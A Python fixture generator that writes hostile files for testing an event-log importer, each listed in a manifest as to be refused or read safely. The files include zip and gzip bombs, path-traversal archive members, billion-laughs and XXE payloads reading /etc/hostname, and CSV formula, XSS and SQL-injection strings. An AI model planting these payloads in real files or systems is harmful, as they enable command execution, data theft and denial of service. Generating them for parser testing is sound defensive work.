"""Write small hostile files, each with what a good reader should do with it.

    python hostile.py FOLDER

`refuse`: say in one plain sentence what is wrong, within seconds, without using much memory,
without touching the network, and without reading or writing any other file.
`read`: open it as the event log it is, with every doubtful character made harmless.
Needs nothing but the standard library. The one big file (50 MB, a single line) is written as well.
"""

# Times without a zone are the point of these files; long lines are data.
# ruff: noqa: DTZ001, E501
from __future__ import annotations

import gzip
import io
import random
import struct
import sys
import zipfile
import zlib
from datetime import datetime, timedelta
from pathlib import Path

MANIFEST: dict[str, tuple[str, str]] = {
    "bomb.zip": (
        "refuse",
        "8 MB of zeros in 8 kB, sizes told honestly (ratio above 1000): judge by ratio before unpacking",
    ),
    "bomb_bzip2.zip": ("refuse", "400 MB in well under 1 kB, sizes told honestly: never unpack to find out"),
    "bomb.csv.gz": ("refuse", "16 MB of one character in 16 kB: stop unpacking at a limit of size or ratio"),
    "nested.zip": (
        "refuse",
        "six archives one inside another around a good table: archives inside archives are not opened",
    ),
    "traversal.zip": ("refuse", "member ../../evil.csv: nothing may be written outside the working folder"),
    "absolute.zip": (
        "refuse",
        "members /etc/cron.d/evil.csv and C:\\Windows\\evil.csv: names of members are never used as paths",
    ),
    "laughs_shared_strings.xlsx": (
        "refuse",
        "billion laughs in xl/sharedStrings.xml: entities are not expanded",
    ),
    "laughs_sheet.xlsx": ("refuse", "billion laughs in xl/worksheets/sheet1.xml: entities are not expanded"),
    "far_cell.xlsx": (
        "read",
        "a good table, a wrong dimension, and one cell in XFD1048576: do not allocate the rectangle",
    ),
    "entity_bomb.xes": ("refuse", "billion laughs in the document type: a document type is not accepted"),
    "external_entity.xes": (
        "refuse",
        "an entity pointing at a local file: it is never opened, its text never shown",
    ),
    "encrypted.xlsx": (
        "refuse",
        "a compound file with EncryptedPackage: say it has a password and to save it without",
    ),
    "picture.csv": ("refuse", "a PNG named .csv: say it is a picture"),
    "truncated.xlsx": ("refuse", "cut off at 60 %: say the file is incomplete, download or save it again"),
    "truncated.parquet": ("refuse", "starts with PAR1, the end is missing: say the file is incomplete"),
    "truncated.csv.gz": ("refuse", "cut off at 60 %: say it is incomplete; never half the rows in silence"),
    "formulas.csv": (
        "read",
        "cells that begin with = + - @ or a tab: text on screen, defused in every download",
    ),
    "names.csv": (
        "read",
        "HTML, script, control characters, emoji and marks of direction in names: shown as text, no mark-up run",
    ),
    "wide_30000.csv": ("refuse", "30,000 columns: say that no event log has so many, within seconds"),
    "one_line_50mb.csv": ("refuse", "one line of 50 MB without a line break: say that it has no rows"),
    "nul_bytes.csv": ("read", "NUL bytes left by a crashed export: drop them, keep the rows, say how many"),
    "empty.csv": ("refuse", "no byte at all: say that the file is empty"),
    "header_only.csv": ("refuse", "a header and no row: say that it has no events"),
}

HEAD = "case_id,activity,timestamp,owner,amount"
STEPS = ["Opportunity Created", "Quote Presented", "Contract Signed", "Payment Received"]


def log_rows(cases: int = 12, names: list[str] | None = None) -> list[list[str]]:
    rng = random.Random(5)
    names = names or ["Ana Ruiz", "Ben Ode", "Chi Ling"]
    rows = []
    for case in range(cases):
        when = datetime(2025, 1, 6, 9, 0) + timedelta(days=rng.randint(0, 60), minutes=rng.randint(0, 400))
        for step in STEPS[: rng.randint(2, 4)]:
            rows.append(
                [
                    f"OPP-{case + 1:03d}",
                    step,
                    when.strftime("%Y-%m-%d %H:%M:%S"),
                    names[case % len(names)],
                    str(rng.randint(10, 900) * 100),
                ]
            )
            when += timedelta(days=rng.randint(1, 20), minutes=rng.randint(1, 300))
    return rows


def quoted(cells: list[str]) -> str:
    return ",".join('"' + c.replace('"', '""') + '"' for c in cells)


def log_csv(rows: list[list[str]] | None = None) -> bytes:
    rows = log_rows() if rows is None else rows
    return "\r\n".join([HEAD, *map(quoted, rows), ""]).encode("utf-8")


def zipped(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method, compresslevel=9) as archive:
        for name, data in members:
            info = zipfile.ZipInfo("x", (2025, 3, 31, 12, 0, 0))
            info.filename = name  # exactly as given, no tidying
            info.compress_type = method
            archive.writestr(info, data)
    return out.getvalue()


def zip_bomb(size: int, method: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method, compresslevel=9) as archive:
        info = zipfile.ZipInfo("log.csv", (2025, 3, 31, 12, 0, 0))
        info.compress_type = method
        with archive.open(info, "w") as member:
            block = bytes(1 << 20)
            for _ in range(size >> 20):
                member.write(block)
    data = out.getvalue()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        member = archive.getinfo("log.csv")
        assert member.file_size == size
        assert member.file_size / member.compress_size >= 1000
    return data


def laughs(first: str = "lol") -> str:
    lines = [f'<!ENTITY l0 "{first}">']
    lines += [f'<!ENTITY l{i} "' + f"&l{i - 1};" * 10 + '">' for i in range(1, 10)]
    return "\n".join(lines)


XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def workbook(sheet: str, strings: str) -> bytes:
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    package = "http://schemas.openxmlformats.org/package/2006"
    return zipped(
        [
            (
                "[Content_Types].xml",
                (
                    XML + f'<Types xmlns="{package}/content-types">'
                    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                    '<Default Extension="xml" ContentType="application/xml"/>'
                    f'<Override PartName="/xl/workbook.xml" ContentType="{kind}.sheet.main+xml"/>'
                    f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}.worksheet+xml"/>'
                    f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kind}.sharedStrings+xml"/></Types>'
                ).encode(),
            ),
            (
                "_rels/.rels",
                (
                    XML + f'<Relationships xmlns="{package}/relationships"><Relationship Id="rId1" '
                    f'Type="{RELS}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
                ).encode(),
            ),
            (
                "xl/workbook.xml",
                (
                    XML + f'<workbook xmlns="{MAIN}" xmlns:r="{RELS}"><sheets>'
                    '<sheet name="Log" sheetId="1" r:id="rId1"/></sheets></workbook>'
                ).encode(),
            ),
            (
                "xl/_rels/workbook.xml.rels",
                (
                    XML + f'<Relationships xmlns="{package}/relationships">'
                    f'<Relationship Id="rId1" Type="{RELS}/worksheet" Target="worksheets/sheet1.xml"/>'
                    f'<Relationship Id="rId2" Type="{RELS}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
                ).encode(),
            ),
            ("xl/worksheets/sheet1.xml", sheet.encode()),
            ("xl/sharedStrings.xml", strings.encode()),
        ]
    )


def cell(ref: str, text: str) -> str:
    text = text.replace("&", "&amp;").replace("<", "&lt;")
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def sheet_xml(doctype: str = "", extra: str = "", dimension: str = "", first: str | None = None) -> str:
    rows = [HEAD.split(","), *log_rows()]
    body = []
    for r, cells in enumerate(rows, 1):
        line = "".join(cell(f"{'ABCDE'[c]}{r}", text) for c, text in enumerate(cells))
        if first is not None and r == 2:
            line = f'<c r="A2" t="inlineStr"><is><t>{first}</t></is></c>' + line[line.index("</c>") + 4 :]
        body.append(f'<row r="{r}">{line}</row>')
    size = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        XML
        + doctype
        + f'<worksheet xmlns="{MAIN}">{size}<sheetData>{"".join(body)}{extra}</sheetData></worksheet>'
    )


def strings_xml(doctype: str = "", text: str = "nothing") -> str:
    return XML + doctype + f'<sst xmlns="{MAIN}" count="1" uniqueCount="1"><si><t>{text}</t></si></sst>'


def xes(doctype: str, name: str) -> bytes:
    events = "".join(
        f'<event><string key="concept:name" value="{step}"/>'
        f'<date key="time:timestamp" value="2025-01-0{i + 6}T09:00:00Z"/></event>'
        for i, step in enumerate(STEPS)
    )
    # in an element as well: a reader that skips attributes would otherwise never meet the entity
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}\n<log xes.version="1.0"><trace>'
        f'<string key="concept:name" value="OPP-001">{name}</string>{events}</trace></log>\n'
    ).encode()


def compound_file() -> bytes:
    """Header and directory of a compound file as a spreadsheet with a password has them."""
    free, end = 0xFFFFFFFF, 0xFFFFFFFE
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(16)
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + bytes(6)
    )
    header += struct.pack("<IIIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0, 0) + struct.pack("<I", free) * 108
    table = struct.pack("<IIIIIIIIIIII", 0xFFFFFFFD, end, 3, 4, 5, 6, 7, 8, 9, 10, end, free)
    table += struct.pack("<I", free) * (128 - 12)

    def entry(name: str, kind: int, start: int, size: int, left: int = free, child: int = free) -> bytes:
        raw = name.encode("utf-16-le") + b"\0\0"
        return (
            raw.ljust(64, b"\0")
            + struct.pack("<HBB", len(raw), kind, 1)
            + struct.pack("<III", left, free, child)
            + bytes(36)
            + struct.pack("<IQ", start, size)
        )

    directory = (
        entry("Root Entry", 5, end, 0, child=1)
        + entry("EncryptedPackage", 2, 2, 4608, left=2)
        + entry("EncryptionInfo", 2, end, 0)
        + bytes(128)
    )
    rng = random.Random(3)
    return header + table + directory + bytes(rng.randrange(256) for _ in range(4608))


def picture() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    lines = b"".join(
        b"\0" + bytes((x * 4, y * 4, 128)[i % 3] for x in range(48) for i in range(3)) for y in range(48)
    )
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 48, 48, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(lines))
        + chunk(b"IEND", b"")
    )


def write(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    done: set[str] = set()

    def put(name: str, data: bytes) -> None:
        assert name in MANIFEST, name
        (folder / name).write_bytes(data)
        done.add(name)

    rng = random.Random(8)
    put("bomb.zip", zip_bomb(8 << 20, zipfile.ZIP_DEFLATED))
    put("bomb_bzip2.zip", zip_bomb(400 << 20, zipfile.ZIP_BZIP2))
    put("bomb.csv.gz", gzip.compress(b"1" * (16 << 20), 9, mtime=0))
    inner = zipped([("log.csv", log_csv())])
    for depth in range(5):
        inner = zipped([(f"level{depth}.zip", inner)])
    put("nested.zip", inner)
    put("traversal.zip", zipped([("../../evil.csv", log_csv())]))
    put("absolute.zip", zipped([("/etc/cron.d/evil.csv", log_csv()), ("C:\\Windows\\evil.csv", log_csv())]))

    put(
        "laughs_shared_strings.xlsx",
        workbook(
            sheet_xml(extra='<row r="90"><c r="A90" t="s"><v>0</v></c></row>'),
            strings_xml(f"<!DOCTYPE sst [\n{laughs()}\n]>\n", "&l9;"),
        ),
    )
    put(
        "laughs_sheet.xlsx",
        workbook(sheet_xml(f"<!DOCTYPE worksheet [\n{laughs()}\n]>\n", first="&l9;"), strings_xml()),
    )
    put(
        "far_cell.xlsx",
        workbook(
            sheet_xml(
                dimension="A1:XFD1048576", extra='<row r="1048576">' + cell("XFD1048576", " ") + "</row>"
            ),
            strings_xml(),
        ),
    )
    put("entity_bomb.xes", xes(f"<!DOCTYPE log [\n{laughs()}\n]>", "&l9;"))
    put("external_entity.xes", xes('<!DOCTYPE log [<!ENTITY here SYSTEM "file:///etc/hostname">]>', "&here;"))

    put("encrypted.xlsx", compound_file())
    put("picture.csv", picture())
    whole = workbook(sheet_xml(), strings_xml())
    put("truncated.xlsx", whole[: len(whole) * 6 // 10])
    put(
        "truncated.parquet",
        b"PAR1\x15\x04\x15\x80\x02\x15\x9c\x01\x4c\x15\x40\x15\x00\x12\x00\x00"
        + bytes(rng.randrange(256) for _ in range(3000)),
    )
    packed = gzip.compress(log_csv(log_rows(400)), 9, mtime=0)
    put("truncated.csv.gz", packed[: len(packed) * 6 // 10])

    rows = log_rows()
    nasty = [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        '=IMPORTXML("http://example.invalid")',
    ]
    for i, text in enumerate(nasty):
        rows[i * 3][3] = text
    rows[1][1] = "=2+5+cmd|' /C calc'!A0"
    for row in rows:
        row[0] = row[0].replace("OPP-012", "=OPP+012")
    put("formulas.csv", log_csv(rows))

    names = [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        "<b>Bold</b> & Söhne",
        "a\x07b\x1b[31mred\x0b",
        "Zo\u00eb \U0001f600\U0001f468\u200d\U0001f469\u200d\U0001f467",
        "\u202etxt.exe\u202c",
        "\u2067שלום\u2069 Ltd",
        "zero\u200bwidth\ufeff",
        "[link](javascript:alert(1))",
        "$\\LaTeX$ `code` **x**",
        "O'Brien\"; DROP TABLE log;--",
        "{{7*7}} ${7*7} %s %n",
        "e\u0301" * 3 + "\u0310" * 40,
        "line\nbreak",
        "\u3000全角\u3000",
        "A" * 5000,
    ]
    put("names.csv", log_csv(log_rows(32, names)))

    wide = [",".join(f"col_{i}" for i in range(30_000))]
    wide += [",".join(str((i * r) % 7) for i in range(30_000)) for r in range(1, 4)]
    put("wide_30000.csv", "\r\n".join(wide).encode())
    put("one_line_50mb.csv", (b"case_id,activity,timestamp," * 2_000_000)[: 50 * 1000 * 1000])
    broken = bytearray(log_csv())
    for spot in sorted(rng.sample(range(60, len(broken) - 10), 9), reverse=True):
        broken[spot:spot] = b"\0"
    broken += bytes(512)  # the padding a crash leaves at the end
    put("nul_bytes.csv", bytes(broken))
    put("empty.csv", b"")
    put("header_only.csv", (HEAD + "\r\n").encode())
    assert done == set(MANIFEST), done ^ set(MANIFEST)


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    write(Path(sys.argv[1]))
    for file_name, (verdict, why) in MANIFEST.items():
        print(f"{verdict:7}{file_name:30}{why}")
